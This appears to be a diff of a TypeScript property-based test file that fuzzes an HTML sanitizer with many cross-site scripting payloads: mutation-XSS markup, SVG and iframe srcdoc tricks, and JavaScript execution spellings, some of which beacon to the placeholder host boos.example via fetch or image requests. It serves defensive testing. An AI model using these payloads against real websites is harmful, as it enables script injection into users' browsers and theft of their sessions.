@@ -6,19 +6,21 @@ import fc from 'fast-check';
 import { base64, nextNumber, percent, run, type Say, say, ticked, told, words } from './hostile-vectors';
 
 type Shape = (p: Say) => string;
+const inParent = (code: string): string => `parent.Function(\`${code}\`)()`;
 
 /** One example of each. */
 const SHAPES: Shape[] = [
-  (p) => `<noscript><p title="</noscript><img src=x onerror=&quot;${p()}&quot;>"></noscript>`,
+  (p) => `<noscript><p title="</noscript><img src=x onerror=${p()}>"></noscript>`,
   (p) => `<noscript><img src="x:y" onerror="${p()}" alt="Ant Group"></noscript><img src="data:,">`,
   (p) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${p()}&gt;">`,
   (p) => `<svg></p><style><a id="</style><img src=1 onerror=${p()}>">`,
   (p) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${p()}">`,
   (p) => `<textarea><img src=x onerror="${p()}"></textarea><xmp><img src=x onerror="${p()}"></xmp>`,
   (p) => `<template><img src=x onerror="${p()}"><script>${p()}</script></template>`,
-  (p) => `<div data-html="<img src=x onerror='${p()}'>" title="<script>${p()}</script>" aria-label="</title><svg onload=${p()}>">x</div>`,
   (p) =>
-    `<svg><script>${p()}</script><animate onbegin="${p()}" attributeName=x dur=1s><set onend="${p()}" dur=.01s /><foreignObject><iframe srcdoc="<script>parent.${p()}</script>"></iframe></foreignObject></svg>`,
+    `<div data-html="<img src=x onerror='${ticked(p())}'>" title="<script>${p()}</script>" aria-label="</title><svg onload=${p()}>">x</div>`,
+  (p) =>
+    `<svg><script>${p()}</script><animate onbegin="${p()}" attributeName=x dur=1s><set onend="${p()}" dur=.01s /><foreignObject><iframe srcdoc="<script>${inParent(p())}</script>"></iframe></foreignObject></svg>`,
   (p) => `<iframe srcdoc="<script>try{${p()}}catch(e){}</script><p>Jack Ma"></iframe>`,
   (p) => `<div><template shadowrootmode="closed"><p>Jack Ma<img src=x onerror="${p()}"></p></template></div>`,
   (p) => `<p style="background:url(javascript:${p()});behavior:url(x);-moz-binding:url(x)">Ant Group</p>`,
@@ -28,7 +30,7 @@ const SHAPES: Shape[] = [
   (p) => `<select><template><img src=x onerror="${p()}"></template><option>Ant Group</select>`,
   (p) => `<table><caption><svg><style><img src=x onerror="${p()}"></table>`,
   (p) =>
-    `<noembed><img src="</noembed><img src=x onerror=&quot;${p()}&quot;>"></noembed><noframes><p title="</noframes><img src=x onerror=&quot;${p()}&quot;>"></noframes>`,
+    `<noembed><img src="</noembed><img src=x onerror=${p()}>"></noembed><noframes><p title="</noframes><img src=x onerror=${p()}>"></noframes>`,
   (p) => `<xml id=x><x><b><img src=x onerror="${p()}"></b></x></xml><listing>&lt;img src=x onerror=${p()}&gt;</listing>`,
   (p) =>
     `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${p()}</script></svg>#x"/><a><animate attributeName=href values="javascript:${p()}"/><text y=20>Jack Ma</text></a></svg>`,
@@ -76,7 +78,7 @@ const SHAPES: Shape[] = [
   (p) =>
     `<svg><script href="data:text/javascript,${p()}" /><script xlink:href="data:,${p()}"></script><handler ev:event=load>${p()}</handler><listener event=load handler=#q2 observer=q3 /></svg>`,
   (p) =>
-    `<svg><image href=x:y onerror="${p()}"/><feImage><set attributeName=xlink:href to="data:image/svg+xml,<svg onload='${ticked(p())}'/>"/></feImage><image style='filter:url("data:image/svg+xml,<svg><script>parent.${ticked(p())}</script></svg>")'/></svg>`,
+    `<svg><image href=x:y onerror="${p()}"/><feImage><set attributeName=xlink:href to="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ticked(p())}'/>"/></feImage><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>${ticked(p())}</script></svg>")'/></svg>`,
   (p) =>
     `<svg><foreignObject><body onload=${p()}><math><mtext><svg><style><img src=x:y onerror=${p()}></style></svg></mtext></math></foreignObject></svg>`,
   (p) => `<svg><script>window.__x&DiacriticalGrave;1&DiacriticalGrave;,${p()}\n<p><svg><script>&#119;${p().slice(1)}</script></svg>`,
@@ -85,13 +87,13 @@ const SHAPES: Shape[] = [
   (p) =>
     `<math><mtext><table><mglyph><svg><mtext><textarea><img src=x:y onerror=${p()}></textarea><path id="</textarea><img src=x:y onerror=${p()}>">`,
   (p) =>
-    `<object data="data:text/html;base64,${base64('<b>Ma')}" onload="${p()}" onerror="${p()}"></object><embed src="data:image/svg+xml,<svg onload='${ticked(p())}'/>" type=image/svg+xml><object type=text/html><param name=url value="javascript:${p()}"><param name=movie value="javascript:${p()}"><param name=code value="javascript:${p()}"></object>`,
+    `<object data="data:text/html;base64,${base64('<b>Ma')}" onload="${p()}" onerror="${p()}"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ticked(p())}'/>" type=image/svg+xml><object type=text/html><param name=url value="javascript:${p()}"><param name=movie value="javascript:${p()}"><param name=code value="javascript:${p()}"></object>`,
   (p) =>
     `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="javascript:${p()}"></object><object type="application/x-shockwave-flash" allowscriptaccess=always data="//boos.example/x.swf?js=${p()}"></object><applet code=x onerror="${p()}"></applet>`,
   (p) =>
     `<iframe srcdoc="&lt;img src&equals;x:y onerror&equals;&quot;${p()}&quot;&gt;"></iframe><iframe src="about:blank" name="${p()}" onload="${p()}"></iframe><iframe sandbox srcdoc="<img src=x:y onerror='${ticked(p())}'>"></iframe>`,
   (p) =>
-    `<iframe src="x:y" srcdoc="<x-own tabindex=1 autofocus onbegin='${ticked(p())}'><script>try{parent.${ticked(p())}}catch(e){}</script>"></iframe><iframe onload="${p()}" sandbox="allow-same-origin allow-forms allow-scripts" src="//boos.example/none"></iframe>`,
+    `<iframe src="x:y" srcdoc="<x-own tabindex=1 autofocus onbegin='${ticked(p())}'><script>try{${inParent(p())}}catch(e){}</script>"></iframe><iframe onload="${p()}" sandbox="allow-same-origin allow-forms allow-scripts" src="//boos.example/none"></iframe>`,
   (p) =>
     `<video controls><source src=x:y onerror="${p()}"><track default src="data:text/vtt,WEBVTT%0A%0A00:00.000 --> 00:05.000%0A<b>Ma" onload="${p()}" oncuechange="${p()}"></video><audio src=x:y onerror="${p()}"></audio>`,
   (p) =>
@@ -263,7 +265,7 @@ const KEYS = [
 const inKeys = fc.tuple(fc.constantFrom('window', 'self', 'top', 'parent', 'frames', 'globalThis', 'this'), fc.constantFrom(...KEYS)).map(
   ([object, key]) =>
     (id: number): string =>
-      `${object}[${key}]?${object}[${key}](${id}):(new Image).src='http://boos.example/ran?${id}'`,
+      `${object}[${key}]?${object}[${key}](${id}):(new(Image)).src='http://boos.example/ran?${id}'`,
 );
 const entities = (code: string, one: (char: number) => string): string => [...code].map((char) => one(char.charCodeAt(0))).join('');
 const text = (id: number): string => `atob('${base64(run(id))}')`;
@@ -283,10 +285,10 @@ const SPELLINGS: ((id: number) => string)[] = [
   (id) => `atob.constructor(${text(id)})()`,
   (id) => `setTimeout(${text(id)})`,
   (id) => `${text(id)} instanceof{[Symbol.hasInstance]:eval}`,
-  (id) => `onerror=()=>{${run(id)}};throw 1`,
-  (id) => `{onerror=()=>{${run(id)}}}throw 1`,
-  (id) => `throw onerror=()=>{${run(id)}},1`,
-  (id) => `throw[onerror]=[()=>{${run(id)}}],1`,
+  (id) => `self.onerror=()=>{${run(id)}};throw 1`,
+  (id) => `{globalThis.onerror=()=>{${run(id)}}}throw 1`,
+  (id) => `throw/**/frames.onerror=()=>{${run(id)}},1`,
+  (id) => `throw[window.onerror]=[()=>{${run(id)}}],1`,
   (id) => `var{a:onerror=()=>{${run(id)}}}=0;throw 1`,
   (id) => `new class{constructor(){${run(id)}}}`,
   (id) => `''+{toString(){${run(id)};return ''}}`,
@@ -297,10 +299,11 @@ const SPELLINGS: ((id: number) => string)[] = [
   (id) => `name='javascript:void(${percent(run(id))})';location=name`,
   (id) => `import('data:text/javascript,${percent(run(id))}')`,
   (id) => `new Worker('data:text/javascript,fetch(%22http://boos.example/ran?${id}%22,{mode:%22no-cors%22})')`,
-  (id) => `new Worker(URL.createObjectURL(new Blob(['fetch(&quot;http://boos.example/ran?${id}&quot;)'.replaceAll('&quot;','\\x22')])))`,
+  (id) =>
+    `new Worker(window.URL.createObjectURL(new Blob(['fetch(&quot;http://boos.example/ran?${id}&quot;)'.replaceAll('&quot;','\\x22')])))`,
   (id) => `{const s=document.createElement('script');s.append(${text(id)});document.head.append(s);s.remove()}`,
   (id) =>
-    `{const s=document.createElement('script');s.src=URL.createObjectURL(new Blob([${text(id)}],{type:'text/javascript'}));document.head.append(s);s.remove()}`,
+    `{const s=document.createElement('script');s.src=window.URL.createObjectURL(new Blob([${text(id)}],{type:'text/javascript'}));document.head.append(s);s.remove()}`,
 ];
 const CONTAINERS: ((code: string) => string)[] = [
   (code) => `<script>${code}</script>`,
